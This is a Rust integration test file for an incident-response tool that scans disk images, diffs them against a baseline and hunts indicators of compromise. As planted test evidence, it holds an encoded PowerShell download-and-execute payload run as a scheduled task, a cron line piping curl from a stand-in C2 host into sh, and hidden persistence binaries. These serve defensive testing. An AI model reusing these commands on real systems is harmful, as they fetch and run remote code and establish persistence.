//! A case of images made by real tools (mkntfs + ntfs-3g, the corpus scripts), scanned into
//! a Parquet dataset that pyarrow reads back, stacked, and resumed.
#![allow(clippy::panic, clippy::unwrap_used)]
#[path = "../../../foothold/tests/integration/common.rs"]
#[allow(dead_code)]
mod common;
use common::*;
use std::path::{Path, PathBuf};

/// A task XML running `command`; after a space, the rest is its `Arguments` (Task
/// Scheduler keeps the program and its arguments apart).
fn task(command: &str) -> String {
    let (program, args) = command.split_once(' ').unwrap_or((command, ""));
    format!(
        "<?xml version=\"1.0\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><BootTrigger/></Triggers><Actions><Exec><Command>{program}</Command><Arguments>{args}</Arguments></Exec></Actions></Task>"
    )
}

/// Four NTFS images: every one has the task `\Backup`; the second and fourth also have
/// `\Updater`, running a program from a different user's profile on each.
fn variants(dir: &Path) -> Option<Vec<PathBuf>> {
    let mut out = Vec::new();
    for i in 1..=4 {
        let tree = dir.join(format!("tree{i}"));
        let tasks = tree.join("Windows/System32/Tasks");
        std::fs::create_dir_all(&tasks).unwrap();
        std::fs::write(
            tasks.join("Backup"),
            task("C:\\Windows\\System32\\backup.exe"),
        )
        .unwrap();
        if i % 2 == 0 {
            let user = ["", "", "bob", "", "carol"][i];
            std::fs::write(
                tasks.join("Updater"),
                task(&format!("C:\\Users\\{user}\\AppData\\Roaming\\upd.exe")),
            )
            .unwrap();
        }
        let img = dir.join(format!("images/pc{i}.img"));
        std::fs::create_dir_all(img.parent().unwrap()).unwrap();
        ntfs_image_of(&tree, &img, &[])?;
        out.push(img);
    }
    Some(out)
}

const READ_DATASET: &str = r#"
import sys, json, pyarrow.dataset as ds
t = ds.dataset(sys.argv[1], format="parquet", partitioning="hive").to_table()
rows = t.select(["artifact", "host", "record"]).to_pylist()
print(json.dumps([[str(r["artifact"]), r["host"], r["record"]] for r in rows]))
"#;

/// The case: the four variants, a damaged copy of one (its end cut off), a file that claims
/// to be an E01 and is not, and a notes file the folder search leaves out. Every readable
/// image is `done`, the false E01 `failed` with an error row naming it; the Parquet dataset,
/// read by pyarrow, holds exactly the records of the JSONL files (artifact, host, name);
/// stacking by command puts the `\Updater` program (different user folders, one item once
/// normalised) first, on the two hosts it was planted on; a second run skips every image
/// done, `--force` scans them again.
#[test]
fn a_case_of_images_scanned_stacked_and_resumed() {
    let dir = scratch().join("case");
    let _ = std::fs::remove_dir_all(&dir);
    let Some(imgs) = variants(&dir) else {
        return;
    };
    let images = dir.join("images");
    let b = std::fs::read(&imgs[2]).unwrap();
    std::fs::write(images.join("pc3-damaged.img"), &b[..b.len() / 2]).unwrap();
    let mut fake = b"EVF\x09\x0d\x0a\xff\x00\x01\x01\x00\x00".to_vec();
    fake.extend(vec![0x41; 4000]);
    std::fs::write(images.join("broken.E01"), fake).unwrap();
    std::fs::write(images.join("notes.txt"), "examiner's notes").unwrap();
    let out = dir.join("case");
    let opts = foothold_case::CaseOptions {
        jsonl: true,
        ..Default::default()
    };
    let done = foothold_case::scan_case(std::slice::from_ref(&images), &out, &opts).unwrap();
    let names: Vec<String> = done
        .iter()
        .map(|s| {
            Path::new(&s.path)
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    assert_eq!(
        names,
        [
            "broken.E01",
            "pc1.img",
            "pc2.img",
            "pc3-damaged.img",
            "pc3.img",
            "pc4.img"
        ]
    );
    for s in &done {
        let failed = s.path.ends_with("broken.E01");
        assert_eq!(s.status, if failed { "failed" } else { "done" }, "{s:?}");
        assert!(!failed || s.message.is_some() && s.errors == 1, "{s:?}");
    }
    // Stacking by command: the planted program first, on its two hosts.
    let rows = foothold_case::stack(&out, foothold_case::StackBy::Command).unwrap();
    assert_eq!(
        rows[0].key, "c:\\users\\*\\appdata\\roaming\\upd.exe",
        "{rows:?}"
    );
    assert_eq!(rows[0].hosts, ["pc2", "pc4"]);
    let backup = rows
        .iter()
        .find(|r| r.example.contains("backup.exe"))
        .unwrap();
    assert!(backup.hosts.len() >= 4, "{backup:?}");
    assert!(rows
        .windows(2)
        .all(|w| w[0].hosts.len() <= w[1].hosts.len()));
    // Resumed: the done images are skipped, the failed one is tried again; --force redoes all.
    let again = foothold_case::scan_case(std::slice::from_ref(&images), &out, &opts).unwrap();
    for s in &again {
        assert_eq!(s.skipped, s.status == "done", "{s:?}");
    }
    let forced = foothold_case::scan_case(
        &[images],
        &out,
        &foothold_case::CaseOptions {
            force: true,
            ..opts
        },
    )
    .unwrap();
    assert!(forced.iter().all(|s| !s.skipped));
    // The dataset as pyarrow reads it equals the JSONL records.
    let mut want: Vec<(String, String, String)> = Vec::new();
    for s in &forced {
        let text = std::fs::read_to_string(out.join(format!("jsonl/{}.jsonl", s.id))).unwrap();
        for l in text.lines() {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            want.push((
                v["artifact"].as_str().unwrap().to_string(),
                s.host.clone(),
                l.to_string(),
            ));
        }
    }
    let Some(py) = oracle_python("pyarrow") else {
        return;
    };
    let o = std::process::Command::new(&py)
        .args(["-c", READ_DATASET])
        .arg(out.join("parquet"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let mut got: Vec<(String, String, String)> = serde_json::from_slice(&o.stdout).unwrap();
    got.sort();
    want.sort();
    assert_eq!(got, want);
    compared("pyarrow", got.len());
}

/// Against a clean baseline (the case of `pc1` alone), a target case of three images: one
/// with a task added (`\Updater`), one whose `\Backup` runs another program, one with
/// `\Backup` removed: `diff` shows exactly those three changes, the changed field with both
/// values. `hunt` finds the planted program by a wildcard path and by its file name, on the
/// host that has it, and nothing for an indicator that is absent.
#[test]
fn diff_against_a_baseline_and_hunt_indicators() {
    let dir = scratch().join("case-diff");
    let _ = std::fs::remove_dir_all(&dir);
    let mk = |name: &str, tasks: &[(&str, &str)]| -> Option<PathBuf> {
        let tree = dir.join(format!("tree-{name}"));
        let t = tree.join("Windows/System32/Tasks");
        std::fs::create_dir_all(&t).unwrap();
        for (n, cmd) in tasks {
            std::fs::write(t.join(n), task(cmd)).unwrap();
        }
        let img = dir.join(format!("{name}.img"));
        ntfs_image_of(&tree, &img, &[])?;
        Some(img)
    };
    let backup = ("Backup", "C:\\Windows\\System32\\backup.exe");
    let (Some(clean), Some(added), Some(changed), Some(removed)) = (
        mk("clean", &[backup]),
        mk(
            "added",
            &[
                backup,
                ("Updater", "C:\\Users\\eve\\AppData\\Roaming\\upd.exe"),
            ],
        ),
        mk("changed", &[("Backup", "C:\\Windows\\Temp\\backup.exe")]),
        mk(
            "removed",
            &[(
                "Other",
                &format!("powershell.exe -NoP -enc {}", encoded(PAYLOAD)),
            )],
        ),
    ) else {
        return;
    };
    let base = dir.join("base");
    let target = dir.join("target");
    let opts = foothold_case::CaseOptions::default();
    foothold_case::scan_case(&[clean], &base, &opts).unwrap();
    foothold_case::scan_case(&[added, changed, removed], &target, &opts).unwrap();
    type Change = (String, String, String, Vec<(String, String, String)>);
    let mut d: Vec<Change> = foothold_case::diff(&base, &target)
        .unwrap()
        .into_iter()
        .map(|r| (r.host, r.change, r.name, r.fields))
        .collect();
    d.sort();
    let f = |a: &str, b: &str, c: &str| (a.to_string(), b.to_string(), c.to_string());
    assert_eq!(
        d,
        [
            ("added".into(), "new".into(), "\\Updater".into(), vec![]),
            (
                "changed".into(),
                "changed".into(),
                "\\Backup".into(),
                vec![f(
                    "command",
                    "c:\\windows\\system32\\backup.exe",
                    "c:\\windows\\temp\\backup.exe"
                )]
            ),
            (
                "removed".into(),
                "missing".into(),
                "\\Backup".into(),
                vec![]
            ),
            ("removed".into(), "new".into(), "\\Other".into(), vec![]),
        ]
    );
    let iocs = [
        "# planted".to_string(),
        r"C:\Users\*\AppData\Roaming\*.exe".into(),
        "upd.exe".into(),
        "nothing-like-this.example".into(),
        r"re:\\appdata\\roaming\\[a-z]{3}\.exe$".into(),
        r"/^c:\\windows\\temp\\/".into(),
        r"re:\\appdata\\roaming\\[a-z]{4}\.exe$".into(),
    ];
    let hits = foothold_case::hunt(&target, &iocs).unwrap();
    let scheduled: Vec<(&str, &str)> = hits
        .iter()
        .filter(|h| h.artifact == "scheduled_task")
        .map(|h| (h.ioc.as_str(), h.host.as_str()))
        .collect();
    assert_eq!(
        scheduled,
        [
            (r"C:\Users\*\AppData\Roaming\*.exe", "added"),
            ("upd.exe", "added"),
            (r"re:\\appdata\\roaming\\[a-z]{3}\.exe$", "added"),
            (r"/^c:\\windows\\temp\\/", "changed"),
        ]
    );
    assert!(!hits.iter().any(|h| h.ioc.contains("nothing")));
    // A regular expression that does not compile is an error naming its line.
    let bad = foothold_case::hunt(&target, &["# x".into(), "re:(".into()]).unwrap_err();
    assert!(bad.to_string().starts_with("indicator line 2:"), "{bad}");
    // The indicators of what the items run: the planted program's path on its host, the
    // decoded PowerShell payload and the URLs, domain and address inside it.
    let found = foothold_case::iocs(&target).unwrap();
    let has = |kind: &str, value: &str, host: &str| {
        found
            .iter()
            .any(|r| r.kind == kind && r.value == value && r.hosts == [host])
    };
    assert!(
        has("path", "C:\\Users\\eve\\AppData\\Roaming\\upd.exe", "added"),
        "{found:?}"
    );
    assert!(has("payload", PAYLOAD, "removed"), "{found:?}");
    assert!(
        has("url", "http://update.evil.example/a.ps1", "removed"),
        "{found:?}"
    );
    assert!(has("domain", "update.evil.example", "removed"), "{found:?}");
    assert!(has("ip", "203.0.113.9", "removed"), "{found:?}");
    // Written without a URL: the bare domain and the IPv6 address (canonical form); the
    // file names of the payload and the commands (`a.ps1`, `upd.exe`) are not domains.
    assert!(has("domain", "c2.evil.example", "removed"), "{found:?}");
    assert!(has("ip", "2001:db8::7", "removed"), "{found:?}");
    let domains: Vec<&str> = found
        .iter()
        .filter(|r| r.kind == "domain")
        .map(|r| r.value.as_str())
        .collect();
    assert_eq!(domains.len(), 2, "{domains:?}");
}

/// The planted PowerShell script: two URLs, an IPv4 address, a bare domain, an IPv6 address
/// written long, and a file path.
const PAYLOAD: &str = "iwr http://update.evil.example/a.ps1 -o C:\\ProgramData\\a.ps1; iex (iwr http://203.0.113.9/b); Resolve-DnsName c2.Evil.example; Test-Connection 2001:DB8:0:0:0:0:0:7";

/// A PowerShell `-EncodedCommand` of `script`, as `iconv` and `base64` (coreutils) make it.
fn encoded(script: &str) -> String {
    let Some(out) = tool_stdin(
        "sh",
        &["-c", "iconv -f UTF-8 -t UTF-16LE | base64 -w0"],
        script,
    ) else {
        panic!("iconv/base64 not available");
    };
    out.trim().to_string()
}

/// A case folder with a KAPE collection folder, a UAC tarball made by `tar` and a notes
/// file: the folder search takes the collection folder and the tarball, each as one piece
/// of evidence (not the folder's files), and the case scan reads the task and the cron job
/// of each on its own host.
#[test]
fn collections_in_a_case_folder_are_evidence() {
    let dir = scratch().join("case-collections");
    let _ = std::fs::remove_dir_all(&dir);
    let tasks = dir.join("in/pc9-kape/C/Windows/System32/Tasks");
    std::fs::create_dir_all(&tasks).unwrap();
    std::fs::write(
        tasks.join("Updater"),
        task(r"C:\Users\dan\AppData\Roaming\upd.exe"),
    )
    .unwrap();
    let root = dir.join("uac/srv9/[root]");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    std::fs::write(root.join("etc/crontab"), "* * * * * root /tmp/.x/run\n").unwrap();
    std::fs::write(root.join("etc/hostname"), "srv9\n").unwrap();
    std::fs::write(dir.join("in/notes.txt"), "case notes").unwrap();
    let tar = dir.join("in/srv9.tar");
    let uac = dir.join("uac");
    let Some(_) = oracle_tool(
        "tar",
        &[
            "-C",
            uac.to_str().unwrap(),
            "-cf",
            tar.to_str().unwrap(),
            "srv9",
        ],
    ) else {
        return;
    };
    let found = foothold_case::find_evidence(&[dir.join("in")]);
    assert_eq!(found, [dir.join("in/pc9-kape"), dir.join("in/srv9.tar")]);
    let out = dir.join("case");
    let done = foothold_case::scan_case(&[dir.join("in")], &out, &Default::default()).unwrap();
    let hosts: Vec<(&str, &str)> = done
        .iter()
        .map(|s| (s.host.as_str(), s.status.as_str()))
        .collect();
    assert_eq!(hosts, [("pc9-kape", "done"), ("srv9", "done")]);
    let rows = foothold_case::stack(&out, foothold_case::StackBy::Command).unwrap();
    let of = |k: &str| {
        rows.iter()
            .find(|r| r.key.contains(k))
            .map(|r| r.hosts.clone())
    };
    assert_eq!(of("upd.exe"), Some(vec!["pc9-kape".to_string()]));
    assert_eq!(of("/tmp/.x/run"), Some(vec!["srv9".to_string()]));
}

/// A Linux root made by `mke2fs -d` from `files` (path below the root, content).
fn ext4_root(dir: &Path, name: &str, files: &[(&str, &str)]) -> Option<PathBuf> {
    let tree = dir.join(format!("tree-{name}"));
    let _ = std::fs::remove_dir_all(&tree);
    for (p, text) in files {
        let f = tree.join(p);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, text).unwrap();
    }
    let img = dir.join(format!("{name}.img"));
    let _ = std::fs::remove_file(&img);
    let args = [
        "-q",
        "-F",
        "-t",
        "ext4",
        "-d",
        tree.to_str()?,
        img.to_str()?,
        "16M",
    ];
    if !run_quiet("mke2fs", &args) {
        skip("mke2fs (e2fsprogs) not installed: the cron diff is not run");
        return None;
    }
    Some(img)
}

/// Jobs added to crontabs that exist on the baseline are `new`, each of them (the
/// download-and-execute line too), and a job that did not change is not `changed` because a
/// line was added above it: a cron job is matched by its file, user, schedule and command,
/// never by its line number.
#[test]
fn diff_matches_cron_jobs_by_what_they_run_not_their_line() {
    let dir = scratch().join("case-diff-cron");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let system = "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n";
    let alice = "0 3 * * * /usr/bin/backup\n";
    let base_files = [
        ("etc/hostname", "clean\n"),
        ("etc/crontab", system),
        ("var/spool/cron/crontabs/alice", alice),
    ];
    let system2 = format!("{system}*/10 * * * * root /usr/local/bin/.sync\n");
    let alice2 = format!(
        "*/5 * * * * curl -fsS http://c2.example.invalid/x | sh\n@reboot /tmp/.y/run\n{alice}"
    );
    let target_files = [
        ("etc/hostname", "victim\n"),
        ("etc/crontab", system2.as_str()),
        ("var/spool/cron/crontabs/alice", alice2.as_str()),
    ];
    let (Some(clean), Some(victim)) = (
        ext4_root(&dir, "clean", &base_files),
        ext4_root(&dir, "victim", &target_files),
    ) else {
        return;
    };
    let (base, target) = (dir.join("base"), dir.join("target"));
    let opts = foothold_case::CaseOptions::default();
    foothold_case::scan_case(&[clean], &base, &opts).unwrap();
    foothold_case::scan_case(&[victim], &target, &opts).unwrap();
    let mut d: Vec<(String, String, String, String)> = foothold_case::diff(&base, &target)
        .unwrap()
        .into_iter()
        .map(|r| (r.change, r.name, r.schedule, r.command))
        .collect();
    d.sort();
    let row = |c: &str, n: &str, s: &str, cmd: &str| {
        (c.to_string(), n.to_string(), s.to_string(), cmd.to_string())
    };
    assert_eq!(
        d,
        [
            row(
                "new",
                "/etc/crontab",
                "*/10 * * * *",
                "/usr/local/bin/.sync"
            ),
            row(
                "new",
                "/var/spool/cron/crontabs/alice",
                "*/5 * * * *",
                "curl -fss http://c2.example.invalid/x | sh"
            ),
            row(
                "new",
                "/var/spool/cron/crontabs/alice",
                "@reboot",
                "/tmp/.y/run"
            ),
        ]
    );
    // The baseline against itself: nothing.
    assert_eq!(foothold_case::diff(&base, &base).unwrap(), vec![]);
    // A folder that is no case, and a path that is not there, are errors naming them.
    for bad in [dir.clone(), dir.join("no-such-case")] {
        let e = foothold_case::diff(&bad, &target).unwrap_err().to_string();
        assert!(
            e.contains(&bad.display().to_string()) && e.contains("not a case"),
            "{e}"
        );
        let e = foothold_case::hunt(&bad, &["x".into()])
            .unwrap_err()
            .to_string();
        assert!(e.contains("not a case"), "{e}");
        assert!(foothold_case::iocs(&bad).is_err());
        assert!(foothold_case::stack(&bad, foothold_case::StackBy::Command).is_err());
    }
    // `case scan` of a folder without evidence says so.
    let empty = dir.join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let e = foothold_case::scan_case(std::slice::from_ref(&empty), &dir.join("out-empty"), &opts)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("no evidence") && e.contains(&empty.display().to_string()),
        "{e}"
    );
}
